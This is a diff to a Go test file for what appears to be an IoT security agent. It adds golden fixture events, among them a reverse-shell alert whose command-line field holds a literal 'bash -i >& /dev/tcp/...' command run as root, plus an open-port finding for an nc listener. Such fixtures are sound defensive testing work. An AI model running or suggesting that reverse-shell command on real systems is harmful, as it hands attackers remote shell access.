@@ -78,6 +78,15 @@ func goldenEvents() []event.Event {
 		event.Must(event.Heartbeat, when, &event.HeartbeatPayload{AgentVersion: "0.1.0", StartTimeUTC: "2026-03-14T14:09:26Z", UptimeSeconds: 3600,
 			ConfigurationVersion: 12, Collectors: []event.CollectorHealth{{Name: "ProcessCreate", State: "running", Events: 1234},
 				{Name: "FirewallConfiguration", State: "degraded", LastError: "permission denied", Events: 2}}}),
+		event.Must(event.SecurityAlert, when, &event.SecurityAlertPayload{AlertType: "IoT_ReverseShell", DisplayName: "Reverse shells",
+			Severity: event.AlertHigh, Description: "A shell redirected its input and output to a TCP connection",
+			Remediation: "Kill the process.", TriggerEventIDs: []string{"0c1d2e3f-4a5b-4c6d-8e7f-8091a2b3c4d5"},
+			TriggerEventNames: []string{event.ProcessCreate}, Executable: "/usr/bin/bash", CommandLine: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+			UserID: "0", UserName: "root", ProcessID: 4242, ParentProcessID: 4200, ParentExecutable: "/usr/bin/sh", ContainerID: cid,
+			ModuleName: "tempSensor", RemoteAddress: "198.51.100.7", RemotePort: "4444", Count: 1, ExtraDetails: event.ExtraDetails{"Outcome": "executed"}}),
+		event.Must(event.SecurityRecommendation, when, &event.SecurityRecommendationPayload{RecommendationType: "IoT_OpenPorts",
+			Name: "Open ports on device", Severity: event.AlertMedium, State: event.RecommendationActive, Entity: "TCP 0.0.0.0:8888",
+			Evidence: "nc (pid 812) listens on 0.0.0.0:8888", Remediation: "Close the port.", FirstSeenUTC: "2026-03-14T15:09:26.535Z"}),
 	}
 	for i := range evs {
 		evs[i].ID = event.FormatID([16]byte{byte(i), 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15})
